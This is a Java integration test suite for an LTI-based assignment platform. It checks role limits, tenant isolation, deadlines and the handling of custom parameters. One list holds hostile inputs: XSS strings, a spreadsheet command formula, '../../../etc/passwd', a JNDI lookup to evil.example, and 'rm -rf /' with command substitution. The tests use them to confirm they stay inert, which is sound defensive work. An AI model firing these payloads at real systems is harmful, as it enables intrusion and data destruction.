package org.mydocker.system.attack;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpRequest;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.mydocker.system.launch.Answer;
import org.mydocker.system.launch.Attempt;
import org.mydocker.system.launch.Guest;
import org.mydocker.system.launch.HttpBrowser;
import org.mydocker.system.launch.Multipart;
import org.mydocker.system.launch.Picker;
import org.mydocker.system.launch.Platform;
import org.mydocker.system.launch.Rows;
import org.mydocker.system.launch.Traces;
import org.mydocker.system.site.InTurn;
import org.mydocker.system.site.Site;
import org.mydocker.system.site.Waiting;

/** Messages that are all true and mean more than they may (lti.md 3.4). */
@InTurn
class MeaningIT {

  private static final String M = "http://purl.imsglobal.org/vocab/lis/v2/membership#";
  private static final String SUB = "http://purl.imsglobal.org/vocab/lis/v2/membership/";
  private static final String TEST_USER =
      "http://purl.imsglobal.org/vocab/lti/system/person#TestUser";
  private static final Duration SOON = Duration.ofSeconds(15);

  private static final Site SITE = Site.shared();
  private static Platform north;
  private static Platform south;

  private final Rows rows = new Rows(SITE);
  private final String title = "Secret title " + UUID.randomUUID();

  @BeforeAll
  static void twoFreshCourses() {
    north = Platform.register(SITE, "north");
    south = Platform.register(SITE, "south");
    for (Platform platform : List.of(north, south)) {
      platform.launch(new HttpBrowser(), "3").post().assertEntered();
    }
  }

  /** An assignment of that course with files; its id. */
  private String assignment(Platform platform) {
    return id(made(platform));
  }

  private Answer made(Platform platform) {
    return Picker.open(platform).create(title, Map.of("points", "10", "material", "archive"));
  }

  private static String id(Answer answer) {
    return Picker.contents(answer).get(0).get("custom").get("mydocker_id").asText();
  }

  /** A launch of somebody new, with these roles, that names an assignment. */
  private static Attempt naming(Platform platform, String assignment, String... roles) {
    return platform
        .launch(new HttpBrowser(), "5")
        .claim("sub", "somebody-" + UUID.randomUUID())
        .lti("roles", List.of(roles))
        .lti("custom", Map.of("mydocker_target", "assignment", "mydocker_id", assignment));
  }

  private static Guest student(Platform platform, String assignment) {
    return Guest.of(platform, naming(platform, assignment, M + "Learner"));
  }

  private static Guest teacher(Platform platform, String assignment) {
    return Guest.of(platform, naming(platform, assignment, M + "Instructor"));
  }

  private Guest again(Platform platform, Guest who, String assignment, String role) {
    String sub =
        (String)
            rows.one("select sub from lti.person where id = cast(? as uuid)", who.visit("person"))
                .orElseThrow();
    return Guest.of(platform, naming(platform, assignment, role).claim("sub", sub));
  }

  @ParameterizedTest
  @ValueSource(strings = {"TeachingAssistant", "Grader"})
  @Tag("L-05")
  @Tag("ROL-04")
  void letsAssistantsAndGradersReadAndGradeAndNoMore(String role) {
    String assignment = assignment(north);
    Guest grader = Guest.of(north, naming(north, assignment, SUB + "Instructor#" + role));
    assertThat(grader.visit("role")).isEqualTo("GRADER");
    String work = "assignments/" + assignment;
    assertThat(grader.get(work + "/submissions").status()).isEqualTo(200);
    Object before = row(assignment);
    Map<String, String> form = Map.of("title", "Changed", "grace", "5", "material", "none");
    for (String page :
        List.of(work + "/edit", work + "/versions", "assignments/new", "course/people")) {
      grader.get(page).assertRefused(403, "access.role");
      assertThat(grader.post(page, form).status()).as(page).isIn(403, 415);
    }
    grader.post(work + "/edit", form).assertRefused(403, "access.role");
    grader.post(work + "/submissions/release", Map.of()).assertRefused(403, "access.role");
    for (String page : List.of("assignments/new", work + "/versions")) {
      grader
          .post(page, new Multipart().field("title", "Changed"))
          .assertRefused(403, "access.role");
    }
    assertThat(delete(grader, work).status()).isIn(404, 405);
    assertThat(grader.post(work + "/delete", Map.of()).status()).isIn(404, 405);
    keepsTheKeys(grader);
    assertThat(row(assignment)).isEqualTo(before);
  }

  private static Answer delete(Guest guest, String inside) {
    return guest
        .browser()
        .send(
            HttpRequest.newBuilder(
                    URI.create(
                        guest.address(inside) + "?csrf=" + guest.get("course").field("csrf")))
                .DELETE());
  }

  private void keepsTheKeys(Guest grader) {
    List<Object> keys = rows.all("select kid from lti.tool_key order by kid");
    assertThat(keys).isNotEmpty();
    Object registration =
        rows.one("select id from lti.registration where client_id = ?", north.clientId())
            .orElseThrow();
    String admin = "admin/registrations";
    grader.get(admin).assertRefused(403, "access.role");
    for (String act :
        List.of("/refresh-keys", "/suspend", "/approve", "/deployments", "/service-hosts")) {
      grader.post(admin + "/" + registration + act, Map.of()).assertRefused(403, "access.role");
    }
    assertThat(rows.all("select kid from lti.tool_key order by kid")).isEqualTo(keys);
  }

  private Object row(String assignment) {
    return rows.one(
            "select cast(a as text) from assignment.assignment a where id = cast(? as uuid)",
            assignment)
        .orElseThrow();
  }

  @Test
  @Tag("L-07")
  void tellsAStudentNothingOfAnAssignmentOfElsewhere() {
    String assignment = assignment(north);
    assertThat(student(north, assignment).landed().body()).contains(title);
    Attempt otherCourse =
        naming(north, assignment, M + "Learner").lti("context", Map.of("id", "another"));
    Attempt otherTenant = naming(south, assignment, M + "Learner");
    Attempt invented = naming(north, UUID.randomUUID().toString(), M + "Learner");
    Attempt noId = naming(north, "../" + assignment, M + "Learner");
    for (Attempt attempt : List.of(otherCourse, otherTenant, invented, noId)) {
      Answer refused = attempt.post().assertRefused(403, "assignment.elsewhere");
      assertThat(refused.body()).doesNotContain(title);
    }
    Guest elsewhere = Guest.of(south, south.launch(new HttpBrowser(), "5"));
    for (String page : List.of("", "/work.zip", "/handed-in/1", "/submissions")) {
      Answer refused = elsewhere.get("assignments/" + assignment + page);
      refused.assertRefused(404, "access.other-course");
      assertThat(refused.body()).doesNotContain(title);
    }
    assertThat(elsewhere.get("course").body()).doesNotContain(title);
  }

  @Test
  @Tag("L-07")
  @Tag("BRK-03")
  void tellsAStudentNothingOfAnAssignmentBeforeItOpens() {
    String assignment = assignment(north);
    Guest earlier = student(north, assignment);
    move(assignment, "opens", "+1 day");
    Answer refused =
        naming(north, assignment, M + "Learner")
            .post()
            .assertRefused(403, "assignment.not-open-yet");
    assertThat(refused.body()).doesNotContain(title);
    String work = "assignments/" + assignment;
    Answer page = earlier.get(work).assertRefused(403, "assignment.not-open-yet");
    assertThat(page.body()).doesNotContain(title);
    assertThat(earlier.get("course").body()).doesNotContain(title);
    for (String act : List.of("/open", "/hand-in", "/token")) {
      earlier.post(work + act, Map.of()).assertRefused(403, "assignment.not-open-yet");
    }
    earlier.handIn(assignment, "early").assertRefused(403, "assignment.not-open-yet");
    assertThat(teacher(north, assignment).landed().body()).contains(title);
    move(assignment, "opens", "-1 minute");
    assertThat(student(north, assignment).landed().body()).contains(title);
  }

  @Test
  @Tag("BRK-03")
  void takesLateWorkAsLateAndNoneAfterTheCutOffWhateverThePlatformThinksOfDates() {
    String assignment = assignment(north);
    Guest student = student(north, assignment);
    String work = "assignments/" + assignment;
    move(assignment, "due", "-1 hour");
    assertThat(student.handIn(assignment, "late").status()).isEqualTo(303);
    assertThat(
            rows.one(
                    "select max(late_seconds) from assignment.submission s join"
                        + " assignment.student_work w on w.id = s.work where w.assignment = cast(?"
                        + " as uuid)",
                    assignment)
                .map(Object::toString)
                .map(Long::parseLong)
                .orElseThrow())
        .isGreaterThan(3_000);
    move(assignment, "cut_off", "-30 minutes");
    student.handIn(assignment, "too late").assertRefused(409, "access.closed");
    student.post(work + "/hand-in", Map.of()).assertRefused(409, "access.closed");
    assertThat(student.get(work).body()).doesNotContain("/hand-in/archive");
  }

  private void move(String assignment, String date, String by) {
    int moved =
        rows.change(
            "update assignment.assignment set "
                + date
                + " = now() + cast(? as interval)"
                + " where id = cast(? as uuid)",
            by,
            assignment);
    assertThat(moved).isEqualTo(1);
  }

  @Test
  @Tag("L-08")
  void refusesAndNotesAnIdThatATeacherPastedFromAnotherTenant() {
    String assignment = assignment(north);
    Object before = row(assignment);
    long noted = notes(assignment);
    Answer refused =
        naming(south, assignment, M + "Instructor")
            .post()
            .assertRefused(403, "assignment.elsewhere");
    assertThat(refused.body()).doesNotContain(title);
    assertThat(notes(assignment)).isEqualTo(noted + 1);
    Answer invented =
        naming(south, UUID.randomUUID().toString(), M + "Instructor")
            .post()
            .assertRefused(403, "assignment.elsewhere");
    assertThat(withoutCorrelation(invented)).isEqualTo(withoutCorrelation(refused));
    assertThat(row(assignment)).as("its grade column stays its own").isEqualTo(before);
    Guest pasting = teacher(south, assignment(south));
    assertThat(pasting.get("assignments/" + assignment + "/edit").status()).isEqualTo(404);
    assertThat(pasting.get("assignments/" + assignment + "/submissions").status()).isEqualTo(404);
  }

  private long notes(String assignment) {
    return (Long)
        rows.one(
                "select count(*) from site.audit_entry where subject_id = ? and reason like"
                    + " 'refused: launched from another course%' and person in (select p.id from"
                    + " lti.person p join lti.registration r on r.id = p.registration where"
                    + " r.client_id = ?)",
                assignment, south.clientId())
            .orElseThrow();
  }

  private static String withoutCorrelation(Answer answer) {
    return answer.body().replace(answer.header("X-Correlation-Id"), "");
  }

  @Test
  @Tag("L-09")
  void takesNothingFromCustomParametersButWhatIsItsOwn() {
    String assignment = assignment(north);
    Map<String, Object> custom = new LinkedHashMap<>();
    custom.put("mydocker_target", "assignment");
    custom.put("mydocker_id", assignment);
    for (String name :
        List.of(
            "user_id",
            "userId",
            "person",
            "sub",
            "role",
            "roles",
            "course",
            "context_id",
            "tenant",
            "image",
            "volume",
            "command",
            "memory",
            "environment",
            "session",
            "visit",
            "csrf",
            "__proto__",
            "constructor",
            "prototype",
            "toString",
            "mydocker_role",
            "mydocker_person")) {
      custom.put(name, "Instructor");
    }
    custom.put("$Foo", "$User.id");
    custom.put("MYDOCKER_TARGET", "environment");
    custom.put("nested", Map.of("role", "Instructor"));
    custom.put("list", List.of("Instructor"));
    Guest plain = student(north, assignment);
    Guest named = carrying(plain, assignment, custom);
    assertSame(named, plain, assignment);
    for (int i = 0; i < 2_000; i++) {
      custom.put("k" + i, "v" + i);
    }
    assertSame(carrying(plain, assignment, custom), plain, assignment);
    Answer unsubstituted = naming(north, "$Assignment.id", M + "Learner").post();
    unsubstituted.assertRefused(403, "assignment.elsewhere");
  }

  private Guest carrying(Guest who, String assignment, Map<String, Object> custom) {
    String sub =
        (String)
            rows.one("select sub from lti.person where id = cast(? as uuid)", who.visit("person"))
                .orElseThrow();
    return Guest.of(
        north, naming(north, assignment, M + "Learner").claim("sub", sub).lti("custom", custom));
  }

  private static void assertSame(Guest one, Guest other, String assignment) {
    for (String column : List.of("person", "tenant", "course", "role", "site_roles")) {
      assertThat(one.visit(column)).as(column).isEqualTo(other.visit(column));
    }
    assertThat(one.landing()).isEqualTo("assignments/" + assignment);
    assertThat(one.landed().status()).isEqualTo(200);
  }

  private static final List<String> HOSTILE =
      List.of(
          "<img src=x onerror=alert(1)>",
          "\"><script>alert(2)</script>",
          "=cmd|'/c calc'!A1",
          "../../../etc/passwd",
          "a\u202Eb\u200Bc\u0007d\u2028e\r\nforged line",
          "${jndi:ldap://evil.example/x} %s %n {0} ''",
          "\uD83D\uDE00 ; rm -rf / $(id) `id`");

  @Test
  @Tag("L-10")
  void showsHostileTextAsNothingButTextInPagesFilesAndLogs() throws IOException {
    for (String hostile : HOSTILE) {
      String mark = "mark-" + UUID.randomUUID().toString().substring(0, 8);
      String assignment =
          id(
              Picker.open(north)
                  .create(mark + hostile, Map.of("points", "10", "material", "archive")));
      Guest student = Guest.of(north, dressed(assignment, mark, hostile, M + "Learner"));
      assertThat(student.handIn(assignment, "work").status()).isEqualTo(303);
      Guest teacher = Guest.of(north, dressed(assignment, mark, hostile, M + "Instructor"));
      String work = "assignments/" + assignment;
      String person = "/submissions/" + student.visit("person");
      for (String page :
          List.of(
              "course",
              "dashboard",
              "course/people",
              work,
              work + "/edit",
              work + "/versions",
              work + "/submissions",
              work + person)) {
        assertInert(teacher.get(page), mark, page);
      }
      for (String page : List.of("course", work, work + "/handed-in/1")) {
        assertInert(student.get(page), mark, page);
      }
      assertThat(teacher.get(work + "/submissions").body()).contains(mark);
      assertSafeNames(teacher, work + "/submissions/all.zip");
      assertSafeNames(student, work + "/work.zip");
    }
    assertThat(SITE.log().lines()).noneMatch(line -> line.startsWith("forged line"));
    assertThat(SITE.log()).doesNotContain("\u202E", "\u0007", "\u2028");
  }

  private static Attempt dressed(String assignment, String mark, String hostile, String role) {
    String text = mark + hostile;
    return naming(north, assignment, role)
        .claim("name", text)
        .claim("given_name", text)
        .claim("family_name", text)
        .claim("email", text)
        .claim("locale", text)
        .lti("context", Map.of("id", "2", "title", text, "label", text, "type", List.of(text)))
        .lti("ext", Map.of("user_username", text))
        .lti("lis", Map.of("person_sourcedid", text))
        .lti(
            "launch_presentation",
            Map.of("locale", text, "document_target", "iframe", "return_url", text))
        .lti(
            "custom",
            Map.of("mydocker_target", "assignment", "mydocker_id", assignment, "group_ids", text));
  }

  private static void assertInert(Answer page, String mark, String which) {
    assertThat(page.status()).as(which).isEqualTo(200);
    assertThat(page.body())
        .as(which)
        .doesNotContain(
            "<img src=x",
            "<script>alert",
            "\u202E",
            "\u0007",
            "\u2028",
            mark + "\"",
            "a\r\nforged");
    assertThat(page.header("Content-Security-Policy")).doesNotContain("unsafe-inline", mark);
  }

  private static void assertSafeNames(Guest guest, String download) throws IOException {
    try (ZipInputStream zip = new ZipInputStream(guest.browser().stream(guest.address(download)))) {
      List<String> names = new ArrayList<>();
      for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
        names.add(entry.getName());
      }
      assertThat(names)
          .isNotEmpty()
          .allSatisfy(
              name ->
                  assertThat(name)
                      .doesNotContain(
                          "../", "<", ">", "\"", "\\", "\r", "\n", "\u202E", "|", "\u0007")
                      .doesNotStartWith("/")
                      .doesNotStartWith("=")
                      .doesNotStartWith("-"));
    }
  }

  @Test
  @Tag("L-14")
  void takesAMissingCourseForNoneAndRefusesOneWithoutAProperName() {
    Object environment =
        rows.one("select id from broker.environment where visibility = 'PUBLIC'").orElseThrow();
    Attempt without =
        naming(north, "", M + "ContentDeveloper")
            .lti("context", null)
            .lti(
                "custom",
                Map.of("mydocker_target", "environment", "mydocker_id", environment.toString()));
    Guest author = Guest.of(north, without);
    assertThat(author.visit("course")).isEmpty();
    assertThat(author.visit("role")).isEqualTo("NONE");
    assertThat(author.landed().status()).isEqualTo(200);
    Attempt nowhere = naming(north, assignment(north), M + "Instructor").lti("context", null);
    nowhere.post().assertRefused(403, "assignment.elsewhere");
    for (Object id : List.of("", "i".repeat(256), "i".repeat(300), "a\u0000b", Map.of("a", 1))) {
      Attempt attempt = north.launch(new HttpBrowser(), "5").lti("context", Map.of("id", id));
      new Traces(north).none(400, "lti.context", attempt::post);
    }
    Attempt unnamed = north.launch(new HttpBrowser(), "5").lti("context", Map.of("title", "x"));
    new Traces(north).none(400, "lti.context", unnamed::post);
  }

  @Test
  @Tag("L-15")
  @Tag("ROL-09")
  void refusesAnOpenTeachersPageOnceALaunchMadeThemAStudent() {
    String assignment = assignment(north);
    Guest teacher = teacher(north, assignment);
    String edit = "assignments/" + assignment + "/edit";
    String submissions = "assignments/" + assignment + "/submissions";
    assertThat(teacher.get(edit).status()).isEqualTo(200);
    Guest lowered = again(north, teacher, assignment, M + "Learner");
    assertThat(lowered.visit("role")).isEqualTo("STUDENT");
    lowersSoon(teacher, edit);
    Map<String, String> form = Map.of("title", "Changed", "grace", "5");
    teacher.post(edit, form).assertRefused(403, "access.role");
    teacher.get(submissions).assertRefused(403, "access.role");
    Guest raised = again(north, teacher, assignment, M + "Instructor");
    assertThat(raised.get(edit).status()).isEqualTo(200);
    assertThat(lowered.get(edit).status()).as("a student's visit is not raised").isEqualTo(403);
  }

  @Test
  @Tag("L-15")
  @Tag("ROL-09")
  void refusesAnOpenTeachersPageOnceTheRosterMadeThemAStudent() {
    String assignment = assignment(north);
    String sub = "roster-" + UUID.randomUUID();
    standing(sub, "TEACHER");
    Guest teacher = Guest.of(north, naming(north, assignment, M + "Instructor").claim("sub", sub));
    refreshRoster();
    String edit = "assignments/" + assignment + "/edit";
    assertThat(teacher.get(edit).status()).isEqualTo(200);
    standing(sub, "STUDENT");
    refreshRoster();
    lowersSoon(teacher, edit);
    teacher.get("assignments/" + assignment + "/submissions").assertRefused(403, "access.role");
    teacher.post(edit, Map.of("title", "Changed")).assertRefused(403, "access.role");
  }

  private static void lowersSoon(Guest teacher, String page) {
    Waiting.until("the page is closed", SOON, () -> teacher.get(page).status() == 403);
  }

  private static void standing(String sub, String standing) {
    north.person(
        Platform.JSON
            .createObjectNode()
            .put("sub", sub)
            .put("standing", standing)
            .put("enrolled", true));
  }

  /** The next look at the course's people asks the platform. */
  private void refreshRoster() {
    rows.change("update lti.course set roster_tried = null");
    Guest other = Guest.of(north, north.launch(new HttpBrowser(), "3"));
    assertThat(other.get("course/people").status()).isEqualTo(200);
  }

  @Test
  @Tag("L-19")
  @Tag("ROL-09")
  @Tag("BRK-02")
  void keepsTheWorkOfATeacherInAStudentsRoleAsAPreviewWithoutAGrade() {
    Answer made = made(north);
    String assignment = id(made);
    String activity = Picker.deliver(made).get(0);
    ObjectNode wish =
        Platform.JSON
            .createObjectNode()
            .put("user", "3")
            .put("activity", activity)
            .put("asStudent", true);
    Guest switched = Guest.of(north, north.launch(new HttpBrowser(), wish));
    assertThat(switched.visit("role")).isEqualTo("STUDENT");
    assertPreview(switched, assignment, activity);
    Guest teacher = launched(north, "3", activity);
    assertThat(teacher.visit("role")).isEqualTo("TEACHER");
    assertThat(teacher.handIn(assignment, "as a teacher").status()).isEqualTo(303);
    assertThat(teacher.get("assignments/" + assignment + "/handed-in/2").status()).isEqualTo(404);
    graded(assignment, activity);
  }

  @Test
  @Tag("BRK-02")
  @Tag("ROL-04")
  void keepsTheWorkOfATestUserAsAPreviewWithoutAGrade() {
    Answer made = made(north);
    String activity = Picker.deliver(made).get(0);
    for (List<String> roles : List.of(List.of(TEST_USER), List.of(M + "Learner", TEST_USER))) {
      Guest tester = Guest.of(north, naming(north, id(made), M + "Learner").lti("roles", roles));
      assertPreview(tester, id(made), activity);
    }
    graded(id(made), activity);
  }

  /** Hands in; the work stays and is shown to its owner, and no grader comes by it. */
  private void assertPreview(Guest previewing, String assignment, String activity) {
    Answer receipt = previewing.handIn(assignment, "a preview");
    assertThat(receipt.status()).as(receipt.body()).isEqualTo(303);
    String work = "assignments/" + assignment;
    assertThat(previewing.get(work + "/handed-in/1").status()).isEqualTo(200);
    Guest grading = teacher(north, assignment);
    String line = work + "/submissions/" + previewing.visit("person");
    assertThat(grading.get(work + "/submissions").body())
        .doesNotContain(previewing.visit("person"));
    grading.get(line).assertRefused(404, "access.not-owner");
    grading
        .post(line, Map.of("points", "9", "comment", "forged"))
        .assertRefused(404, "access.not-owner");
    assertThat(
            rows.one(
                "select id from assignment.grade where assignment = cast(? as uuid)", assignment))
        .isEmpty();
    assertThat(gradesOf(north, activity)).isEmpty();
  }

  /** The same way does bring a student's grade to the platform. */
  private void graded(String assignment, String activity) {
    Guest student = launched(north, "6", activity);
    assertThat(student.handIn(assignment, "a student's").status()).isEqualTo(303);
    grade(north, activity, assignment, student, "7.5");
    Waiting.until(
        "the grade of the student, and of nobody else, has arrived",
        Duration.ofSeconds(60),
        () -> gradesOf(north, activity).equals(List.of("6=7.5")));
  }

  /** By the teacher who came through the activity, so that its column is the assignment's. */
  private static void grade(
      Platform platform, String activity, String assignment, Guest student, String points) {
    String line = "assignments/" + assignment + "/submissions/" + student.visit("person");
    Guest teacher = launched(platform, "3", activity);
    Answer graded = teacher.post(line, Map.of("points", points, "comment", "Good"));
    assertThat(graded.status()).as(graded.body()).isEqualTo(303);
  }

  private static List<String> gradesOf(Platform platform, String activity) {
    List<String> found = new ArrayList<>();
    for (JsonNode grade : platform.grades()) {
      if (grade.path("activityId").asText().equals(activity)) {
        found.add(grade.get("userId").asText() + "=" + grade.get("score").asText());
      }
    }
    return found;
  }

  @Test
  @Tag("BRK-05")
  void opensAnothersWorkToARoleInThatCourseAloneAndNotesIt() {
    String assignment = assignment(north);
    Guest student = student(north, assignment);
    assertThat(student.handIn(assignment, "mine").status()).isEqualTo(303);
    String whose = student.visit("person");
    String line = "assignments/" + assignment + "/submissions/" + whose;
    Guest fellow = student(north, assignment);
    Guest mentor =
        Guest.of(
            north,
            north
                .launch(new HttpBrowser(), "5")
                .claim("sub", "mentor-" + UUID.randomUUID())
                .lti("roles", List.of(M + "Mentor", "Mentor"))
                .lti("role_scope_mentor", List.of("5", whose)));
    Guest elsewhere =
        Guest.of(
            north,
            north
                .launch(new HttpBrowser(), "3")
                .lti("context", Map.of("id", "elsewhere-" + UUID.randomUUID())));
    for (String page : List.of(line, line + "/1.zip")) {
      fellow.get(page).assertRefused(403, "access.role");
      assertThat(mentor.get(page).status()).isIn(403, 404);
      elsewhere.get(page).assertRefused(404, "access.other-course");
    }
    Guest grader = Guest.of(north, naming(north, assignment, SUB + "Instructor#Grader"));
    long before = readings(grader, whose);
    assertThat(grader.get(line).status()).isEqualTo(200);
    assertThat(grader.get(line + "/1.zip").status()).isEqualTo(200);
    assertThat(readings(grader, whose)).isEqualTo(before + 2);
  }

  private long readings(Guest who, String whose) {
    return (Long)
        rows.one(
                "select count(*) from site.audit_entry where act = 'READ_SUBMISSION'"
                    + " and person = cast(? as uuid) and reason like ?",
                who.visit("person"),
                "%" + whose + "%")
            .orElseThrow();
  }

  @Test
  @Tag("L-02")
  void keepsTheGradesOfTwoTenantsWithTheSameNumbersApart() {
    Answer here = made(north);
    Answer there = made(south);
    String northern = Picker.deliver(here).get(0);
    String southern = Picker.deliver(there).get(0);
    Guest one = launched(north, "5", northern);
    Guest other = launched(south, "5", southern);
    assertThat(one.visit("person")).isNotEqualTo(other.visit("person"));
    assertThat(one.visit("course")).isNotEqualTo(other.visit("course"));
    assertThat(one.visit("tenant")).isNotEqualTo(other.visit("tenant"));
    assertThat(one.handIn(id(here), "north").status()).isEqualTo(303);
    assertThat(other.handIn(id(there), "south").status()).isEqualTo(303);
    grade(north, northern, id(here), one, "3.5");
    Waiting.until(
        "the grade has arrived",
        Duration.ofSeconds(60),
        () -> gradesOf(north, northern).equals(List.of("5=3.5")));
    assertThat(gradesOf(south, southern)).isEmpty();
    assertThat(other.get("assignments/" + id(there)).body()).doesNotContain("3.5");
    Guest foreign = teacher(south, id(there));
    String line = "assignments/" + id(here) + "/submissions/" + one.visit("person");
    foreign.post(line, Map.of("points", "1")).assertRefused(404, "access.other-course");
    String crossed = "assignments/" + id(there) + "/submissions/" + one.visit("person");
    foreign.post(crossed, Map.of("points", "1")).assertRefused(404, "access.not-owner");
    grade(south, southern, id(there), other, "8");
    Waiting.until(
        "the other grade has arrived",
        Duration.ofSeconds(60),
        () -> gradesOf(south, southern).equals(List.of("5=8.0")));
    assertThat(gradesOf(north, northern)).containsExactly("5=3.5");
  }

  private static Guest launched(Platform platform, String user, String activity) {
    ObjectNode wish = Platform.JSON.createObjectNode().put("user", user).put("activity", activity);
    return Guest.of(platform, platform.launch(new HttpBrowser(), wish));
  }
}
